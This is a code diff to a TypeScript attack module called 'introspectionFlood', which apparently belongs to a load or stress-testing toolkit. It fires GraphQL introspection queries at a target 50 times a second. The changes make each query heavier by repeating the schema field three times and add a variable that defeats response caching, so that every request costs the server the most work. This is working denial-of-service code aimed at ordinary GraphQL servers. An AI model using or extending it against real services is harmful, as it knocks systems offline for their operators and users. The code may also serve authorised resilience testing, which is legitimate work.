@@ -4,10 +4,23 @@ import { hostileRequests, type Attack } from './attack.ts';
 const PER_SECOND = 50;
 const ADDRESS = '203.0.113.1';
 
-/** The query of GraphQL tools, with a variable whose value no answer in a cache has. */
-const QUERY = getIntrospectionQuery()
-  .replace('query IntrospectionQuery', 'query IntrospectionQuery($name: String!)')
-  .replace('__schema {', 'asked: __type(name: $name) { name } __schema {');
+/** As many answers as fit into one request. */
+const PARTS = 3;
+
+/** The query of GraphQL tools, several times, with a variable whose value no cached answer was made for. */
+const QUERY = repeatSchema(getIntrospectionQuery()).replace(
+  'query IntrospectionQuery {',
+  'query IntrospectionQuery($name: String!) { asked: __type(name: $name) { name }',
+);
+
+function repeatSchema(query: string): string {
+  const start = query.indexOf('__schema {');
+  const end = query.indexOf('fragment FullType');
+  const field = query.slice(start, query.lastIndexOf('}', end));
+  const parts = Array.from({ length: PARTS }, (_, at) => `s${at}: ${field}`);
+
+  return `${query.slice(0, start)}${parts.join('\n')}}\n${query.slice(end)}`;
+}
 
 /** Sends introspections, 50 a second, and waits for each answer. */
 export const introspectionFlood: Attack = (target) => {
@@ -21,8 +34,7 @@ export const introspectionFlood: Attack = (target) => {
   return Promise.resolve({
     stop: () => {
       clearInterval(timer);
-      requests.hangUp();
-      return Promise.resolve();
+      return Promise.resolve(requests.hangUp());
     },
   });
 };
